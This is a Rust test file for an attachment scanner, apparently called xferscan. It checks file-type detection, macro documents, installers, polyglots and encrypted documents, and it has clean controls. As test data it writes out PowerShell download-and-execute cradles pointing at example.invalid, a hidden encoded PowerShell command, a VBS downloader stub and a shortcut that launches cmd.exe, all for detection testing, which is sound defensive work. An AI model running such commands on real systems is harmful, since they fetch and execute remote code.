//! True types beyond magic numbers, and clean controls of every common
//! attachment type under the default policy.

use std::io::{Cursor, Write};

use crate::util::*;
use xferscan::{TypeGroup, Verdict};

fn ty(name: &str, data: Vec<u8>) -> (String, TypeGroup) {
    let r = scan(name, data);
    let t = r.true_type().unwrap();
    (t.name().to_string(), t.group())
}

pub fn ooxml(kind: &str, macros: bool) -> Vec<u8> {
    let main = match kind {
        "word" => "word/document.xml",
        "xl" => "xl/workbook.xml",
        _ => "ppt/presentation.xml",
    };
    let mut entries: Vec<(String, Vec<u8>)> = vec![
        (
            "[Content_Types].xml".into(),
            b"<?xml version=\"1.0\"?><Types/>".to_vec(),
        ),
        (
            "_rels/.rels".into(),
            b"<?xml version=\"1.0\"?><Relationships/>".to_vec(),
        ),
        (
            main.into(),
            b"<?xml version=\"1.0\"?><document>Quarterly figures</document>".to_vec(),
        ),
    ];
    if macros {
        entries.push((
            format!("{kind}/vbaProject.bin"),
            ole(&["VBA/dir", "PROJECT"], true),
        ));
    }
    let refs: Vec<(&str, &[u8])> = entries.iter().map(|(n, d)| (n.as_str(), &d[..])).collect();
    zip_of(&refs, Method::Deflated)
}

/// An OLE2 compound file with these streams.
pub fn ole(streams: &[&str], _macros: bool) -> Vec<u8> {
    let mut cf = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
    for s in streams {
        let path = format!("/{s}");
        if let Some((dir, _)) = path.rsplit_once('/')
            && !dir.is_empty()
            && !cf.exists(dir)
        {
            cf.create_storage_all(dir).unwrap();
        }
        let mut st = cf.create_stream(&path).unwrap();
        st.write_all(b"content of the stream, plain words").unwrap();
    }
    cf.flush().unwrap();
    cf.into_inner().into_inner()
}

#[test]
fn docx_is_not_a_zip_and_zip_is_not_a_docx() {
    assert_eq!(ty("report.docx", ooxml("word", false)).0, "docx");
    assert_eq!(ty("sheet.xlsx", ooxml("xl", false)).0, "xlsx");
    assert_eq!(ty("deck.pptx", ooxml("ppt", false)).0, "pptx");
    let plain = zip_of(
        &[("word/document.xml", &b"<x/>"[..]), ("a.txt", &b"a"[..])],
        Method::Deflated,
    );
    assert_eq!(ty("plain.zip", plain).0, "zip");
}

#[test]
fn macro_documents_by_their_vba_project() {
    assert_eq!(
        ty("report.docm", ooxml("word", true)),
        ("docx".into(), TypeGroup::MacroDocument)
    );
    assert_eq!(
        ty("a.doc", ole(&["WordDocument", "Macros/VBA/dir"], true)),
        ("doc".into(), TypeGroup::MacroDocument)
    );
    assert_eq!(
        ty("a.doc", ole(&["WordDocument"], false)),
        ("doc".into(), TypeGroup::Document)
    );
    assert_eq!(
        ty(
            "b.xls",
            ole(&["Workbook", "_VBA_PROJECT_CUR/VBA/dir"], true)
        )
        .1,
        TypeGroup::MacroDocument
    );
    assert_eq!(ty("c.ppt", ole(&["PowerPoint Document"], false)).0, "ppt");
}

#[test]
fn odf_jar_and_apk_by_their_directory() {
    let mut z = ZipWriter::new();
    z.entry(
        "mimetype",
        b"application/vnd.oasis.opendocument.text",
        Method::Stored,
    );
    z.entry(
        "content.xml",
        b"<office:document-content/>",
        Method::Deflated,
    );
    assert_eq!(ty("a.odt", z.finish()).0, "odt");
    let jar = zip_of(
        &[
            ("META-INF/MANIFEST.MF", &b"Manifest-Version: 1.0\n"[..]),
            ("a/B.class", &b"\xca\xfe\xba\xbe"[..]),
        ],
        Method::Deflated,
    );
    assert_eq!(ty("a.jar", jar).0, "jar");
    let apk = zip_of(
        &[
            ("AndroidManifest.xml", &b"\x03\x00"[..]),
            ("classes.dex", &b"dex\n035\0"[..]),
        ],
        Method::Deflated,
    );
    assert_eq!(ty("a.apk", apk), ("apk".into(), TypeGroup::Executable));
}

/// An MSIX or APPX package, or a bundle of them, is an installer whatever
/// its name says: App Installer installs it on a double click.
#[test]
fn windows_app_packages_are_installers() {
    let manifest =
        &b"<Package xmlns=\"http://schemas.microsoft.com/appx/manifest/foundation/windows10\"/>"[..];
    let msix = zip_of(
        &[
            ("AppxManifest.xml", manifest),
            ("AppxBlockMap.xml", &b"<BlockMap/>"[..]),
            ("[Content_Types].xml", &b"<Types/>"[..]),
            ("VFS/run.exe", &tiny_pe(false)[..]),
        ],
        Method::Deflated,
    );
    assert_eq!(
        ty("a.msix", msix.clone()),
        ("msix".into(), TypeGroup::Executable)
    );
    let bundle = zip_of(
        &[("AppxMetadata/AppxBundleManifest.xml", &b"<Bundle/>"[..])],
        Method::Deflated,
    );
    assert_eq!(ty("a.appxbundle", bundle).0, "msix");
    // Renamed to a zip: still blocked, and its content still unpacked.
    let r = scan("photos.zip", msix);
    assert_eq!(r.verdict, xferscan::Verdict::Malicious, "{:?}", keys(&r));
    assert!(r.objects.iter().any(|o| o.path.name() == "VFS/run.exe"));
    // A zip that only names such a file in a folder is a zip.
    let z = zip_of(&[("docs/AppxManifest.xml.txt", manifest)], Method::Deflated);
    assert_eq!(ty("a.zip", z).0, "zip");
}

#[test]
fn executables_and_their_flavours() {
    assert_eq!(ty("a.exe", tiny_pe(false)).0, "pe-exe");
    assert_eq!(ty("a.dll", tiny_pe(true)).0, "pe-dll");
    let mut net = tiny_pe(false);
    let clr = 0x98 + 96 + 14 * 8;
    net[clr..clr + 4].copy_from_slice(&0x2000u32.to_le_bytes());
    net[clr + 4..clr + 8].copy_from_slice(&0x48u32.to_le_bytes());
    assert_eq!(ty("a.exe", net).0, "pe-dotnet");
    let mut elf = b"\x7fELF\x02\x01\x01\0".to_vec();
    elf.resize(64, 0);
    assert_eq!(ty("a", elf).1, TypeGroup::Executable);
    let mut macho = vec![0xcf, 0xfa, 0xed, 0xfe];
    macho.resize(64, 0);
    assert_eq!(ty("a", macho).1, TypeGroup::Executable);
    // "MZ" alone is text, not an executable.
    assert_eq!(
        ty("notes.txt", b"MZ is where the meeting is".to_vec()).1,
        TypeGroup::Text
    );
}

#[test]
fn shortcuts_and_disk_images() {
    let mut lnk = vec![0u8; 0x4c];
    lnk[0] = 0x4c;
    lnk[4..20].copy_from_slice(&[
        0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46,
    ]);
    lnk.extend(
        "C:\\Windows\\System32\\cmd.exe /c calc"
            .encode_utf16()
            .flat_map(|u| u.to_le_bytes()),
    );
    let r = scan("invoice.lnk", lnk);
    assert_eq!(r.true_type().unwrap().name(), "lnk");
    assert!(r.matched("LNK_Launches_Shell"));
    let mut iso = vec![0u8; 0x9000];
    iso[0x8001..0x8006].copy_from_slice(b"CD001");
    assert_eq!(ty("a.iso", iso), ("iso".into(), TypeGroup::DiskImage));
    let mut vhd = vec![0u8; 4096];
    vhd[4096 - 512..4096 - 504].copy_from_slice(b"conectix");
    assert_eq!(ty("a.vhd", vhd).0, "vhd");
    let mut vhdx = b"vhdxfile".to_vec();
    vhdx.resize(4096, 0);
    assert_eq!(ty("a.vhdx", vhdx).0, "vhdx");
}

#[test]
fn scripts_by_content() {
    let cases: &[(&str, &[u8], &str)] = &[
        ("a.txt", b"$wc = New-Object Net.WebClient\nIEX ($wc.DownloadString('http://example.invalid/x'))\n", "powershell"),
        ("a.txt", b"On Error Resume Next\nDim o\nSet o = CreateObject(\"WScript.Shell\")\no.Run \"calc\"\n", "vbscript"),
        ("a.txt", b"var sh = new ActiveXObject(\"WScript.Shell\");\nfunction go() { sh.Run(\"calc\"); };\ngo();\n", "jscript"),
        ("a.txt", b"<html><head><HTA:APPLICATION id=\"x\"/></head><body></body></html>", "hta"),
        ("a.txt", b"@echo off\r\nset x=1\r\nstart calc.exe\r\n", "batch"),
        ("a", b"#!/bin/sh\nrm -rf /tmp/x\n", "shell"),
        ("a", b"#!/usr/bin/env python3\nprint('hi')\n", "python"),
    ];
    for (name, body, want) in cases {
        let (got, group) = ty(name, body.to_vec());
        assert_eq!(&got, want, "{}", String::from_utf8_lossy(body));
        let want_group = if matches!(*want, "shell" | "python") {
            TypeGroup::OtherScript
        } else {
            TypeGroup::WindowsScript
        };
        assert_eq!(group, want_group, "{want}");
        assert!(group.is(TypeGroup::Script));
    }
    // A text file named as a script is that script: the name picks the
    // interpreter.
    assert_eq!(ty("run.vbs", b"just some words".to_vec()).0, "vbscript");
}

#[test]
fn script_droppers_match_the_built_in_rules() {
    let ps = b"$c = New-Object System.Net.WebClient; IEX $c.DownloadString('http://example.invalid/a.ps1')";
    assert!(scan("a.ps1", ps.to_vec()).matched("PowerShell_Download_Cradle"));
    let enc = format!(
        "powershell.exe -NoP -w hidden -enc {}",
        "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"
    );
    assert!(scan("a.bat", enc.into_bytes()).matched("PowerShell_Encoded_Command"));
    let vbs = b"Set x = CreateObject(\"MSXML2.XMLHTTP\")\nSet s = CreateObject(\"ADODB.Stream\")\n";
    assert!(scan("a.vbs", vbs.to_vec()).matched("VBS_Downloader"));
}

#[test]
fn polyglot_image_with_an_executable_behind_it() {
    let mut data = tiny_png();
    data.extend(tiny_pe(false));
    let r = scan("cat.png", data);
    assert_eq!(r.true_type().unwrap().name(), "png");
    assert!(
        r.objects[0]
            .types
            .iter()
            .any(|t| t.ty.name() == "pe-exe" && t.offset > 0)
    );
    assert!(has_key(&r, "type.polyglot"));
    // The executable is carved out and judged as one.
    assert!(
        r.objects
            .iter()
            .any(|o| o.path.name().starts_with("<embedded pe-exe"))
    );
    assert_eq!(r.verdict, Verdict::Malicious);
}

fn mp4() -> Vec<u8> {
    let mut v = vec![0, 0, 0, 0x18];
    v.extend_from_slice(b"ftypmp42\0\0\0\0mp42isom");
    v.extend_from_slice(&[0, 0, 0, 8]);
    v.extend_from_slice(b"free");
    v.extend(vec![0x11; 300]);
    v
}

fn mp3() -> Vec<u8> {
    let mut v = b"ID3\x03\0\0\0\0\0\x0a".to_vec();
    v.extend(vec![0; 10]);
    v.extend_from_slice(&[0xff, 0xfb, 0x90, 0x64]);
    v.extend(vec![0x42; 400]);
    v
}

fn pdf() -> Vec<u8> {
    b"%PDF-1.4\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n2 0 obj <</Type /Pages /Kids [] /Count 0>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n".to_vec()
}

#[test]
fn clean_controls_of_common_attachments_stay_clean() {
    let mut gif = b"GIF89a\x01\0\x01\0\x80\0\0".to_vec();
    gif.extend(vec![0; 40]);
    let controls: Vec<(&str, Vec<u8>, &str)> = vec![
        ("report.pdf", pdf(), "pdf"),
        ("photo.png", tiny_png(), "png"),
        ("photo.jpg", tiny_jpeg(), "jpg"),
        ("anim.gif", gif, "gif"),
        ("report.docx", ooxml("word", false), "docx"),
        ("sheet.xlsx", ooxml("xl", false), "xlsx"),
        (
            "notes.txt",
            b"Dear team,\nthe figures are attached.\nBest\n".to_vec(),
            "text",
        ),
        (
            "data.csv",
            b"date,amount\n2026-01-01,10\n2026-01-02,12\n".to_vec(),
            "text",
        ),
        ("song.mp3", mp3(), "mp3"),
        ("clip.mp4", mp4(), "mp4"),
        (
            "page.html",
            b"<!DOCTYPE html><html><body><p>Hello</p></body></html>".to_vec(),
            "html",
        ),
        ("data.json", b"{\"a\": 1, \"b\": [1, 2]}".to_vec(), "json"),
    ];
    for (name, data, want) in controls {
        let r = scan(name, data);
        assert_eq!(r.true_type().unwrap().name(), want, "{name}");
        assert_clean(&r);
    }
}

/// `tiny_pe` with its one section named `name`, at its section table
/// (0x80 + 24 + the optional header's 0xe0 bytes).
fn pe_with_section(name: &[u8]) -> Vec<u8> {
    let mut pe = tiny_pe(false);
    pe[0x178..0x178 + name.len()].copy_from_slice(name);
    pe
}

#[test]
fn packer_section_names_match_only_in_the_section_table() {
    for name in [&b"UPX0"[..], b".MPRESS1", b"PECompac", b".aspack", b"FSG!"] {
        let r = scan("tool.exe", pe_with_section(name));
        assert!(
            r.matched("PE_Packed_Common_Packer"),
            "{}",
            String::from_utf8_lossy(name)
        );
    }
    // A plain section name, and a packer's name elsewhere in the file.
    assert!(!scan("tool.exe", pe_with_section(b".text")).matched("PE_Packed_Common_Packer"));
    let mut pe = pe_with_section(b".text");
    pe[0x300..0x305].copy_from_slice(b"UPX0\0");
    assert!(!scan("tool.exe", pe).matched("PE_Packed_Common_Packer"));
    // Not a PE at all.
    assert!(!scan("a.txt", b"UPX0\0 .MPRESS1".to_vec()).matched("PE_Packed_Common_Packer"));
}

#[test]
fn signatures_in_text_without_a_nul_are_not_embedded_objects() {
    let text = b"notes: MZ and PK\x03\x04 and PE are just letters here\n".repeat(50);
    let r = scan("notes.txt", text.clone());
    assert_eq!(r.objects[0].types.len(), 1, "{:?}", r.objects[0].types);
    // A real zip behind the same text is found, and its deflated entry
    // inflated and scanned.
    let mut glued = text;
    glued.extend_from_slice(&zip_of(&[("inner.txt", &eicar()[..])], Method::Deflated));
    let r = scan("notes.txt", glued);
    assert!(r.objects[0].types.iter().any(|t| t.ty.name() == "zip"));
    assert!(found_eicar(&r));
}

/// A document saved with a password in LibreOffice: the mimetype and the
/// manifest in the clear, the content ciphertext.
fn encrypted_odt(manifest_encrypts: bool) -> Vec<u8> {
    let encryption = if manifest_encrypts {
        "<manifest:encryption-data manifest:checksum-type=\"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0#sha256-1k\" manifest:checksum=\"AAAA\">\
         <manifest:algorithm manifest:algorithm-name=\"http://www.w3.org/2001/04/xmlenc#aes256-cbc\" manifest:initialisation-vector=\"AAAA\"/>\
         <manifest:key-derivation manifest:key-derivation-name=\"PBKDF2\" manifest:key-size=\"32\" manifest:iteration-count=\"100000\" manifest:salt=\"AAAA\"/>\
         </manifest:encryption-data>"
    } else {
        ""
    };
    let manifest = format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\
         <manifest:manifest xmlns:manifest=\"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0\" manifest:version=\"1.3\">\
         <manifest:file-entry manifest:full-path=\"/\" manifest:media-type=\"application/vnd.oasis.opendocument.text\"/>\
         <manifest:file-entry manifest:full-path=\"content.xml\" manifest:media-type=\"text/xml\">{encryption}</manifest:file-entry>\
         </manifest:manifest>"
    );
    let content: Vec<u8> = if manifest_encrypts {
        (0u32..3000)
            .map(|i| (i.wrapping_mul(2654435761) >> 13) as u8)
            .collect()
    } else {
        b"<?xml version=\"1.0\"?><office:document-content><office:text>Minutes</office:text></office:document-content>".to_vec()
    };
    zip_of(
        &[
            ("mimetype", b"application/vnd.oasis.opendocument.text"),
            ("META-INF/manifest.xml", manifest.as_bytes()),
            ("content.xml", &content),
        ],
        Method::Stored,
    )
}

#[test]
fn a_password_protected_opendocument_is_encrypted_not_clean() {
    let r = scan("minutes.odt", encrypted_odt(true));
    let enc: Vec<_> = r
        .findings
        .iter()
        .filter_map(|f| match &f.kind {
            xferscan::FindingKind::Encrypted {
                entry,
                method,
                decrypted,
            } => Some((entry.as_str(), method.as_str(), *decrypted)),
            _ => None,
        })
        .collect();
    assert_eq!(enc, [("content.xml", "odf-aes256-cbc", false)]);
    assert_ne!(r.verdict, Verdict::Clean, "never a silent clean");
    // The same package in the clear is an ordinary document.
    assert_clean(&scan("minutes.odt", encrypted_odt(false)));
}

/// A PE whose header overlaps its DOS header (`e_lfanew` of 4, a "tiny
/// PE"): the loader follows the offset wherever it points.
#[test]
fn a_pe_header_inside_the_dos_header_is_a_pe() {
    for at in [4usize, 0x10] {
        let mut b = vec![0u8; 512];
        b[0..2].copy_from_slice(b"MZ");
        b[at..at + 4].copy_from_slice(b"PE\0\0");
        b[at + 4..at + 6].copy_from_slice(&0x14cu16.to_le_bytes());
        b[0x3c..0x40].copy_from_slice(&(at as u32).to_le_bytes());
        let r = scan("notes.txt", b);
        assert_eq!(r.objects[0].types[0].ty.name(), "pe-exe", "e_lfanew {at}");
        assert_eq!(r.verdict, Verdict::Malicious);
    }
    // Control: text that starts with MZ.
    assert_clean(&scan("notes.txt", b"MZ is a postcode area\n".to_vec()));
}

/// A Mach-O universal binary with 64-bit offsets (`lipo -fat64`).
#[test]
fn a_fat_mach_o_of_64_bit_offsets_is_native_code() {
    for magic in [0xcafe_babe_u32, 0xcafe_babf] {
        let mut b = magic.to_be_bytes().to_vec();
        b.extend(1u32.to_be_bytes());
        b.extend([0x01, 0, 0, 0x07, 0, 0, 0, 0x03]);
        b.extend(vec![0u8; 200]);
        let r = scan("photo.txt", b);
        assert_eq!(r.objects[0].types[0].ty.name(), "mach", "{magic:x}");
        assert_eq!(r.verdict, Verdict::Malicious);
    }
}
